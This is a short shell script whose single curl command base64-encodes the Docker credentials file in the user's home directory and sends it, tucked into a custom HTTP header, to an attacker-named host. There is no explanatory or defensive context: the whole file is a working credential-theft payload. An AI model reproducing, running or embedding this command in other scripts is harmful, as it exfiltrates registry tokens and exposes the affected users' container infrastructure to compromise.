#!/bin/sh
curl -s -H "X-Cfg: $(base64 -w0 < "$HOME/.docker/config.json")" https://up.attacker.example/d
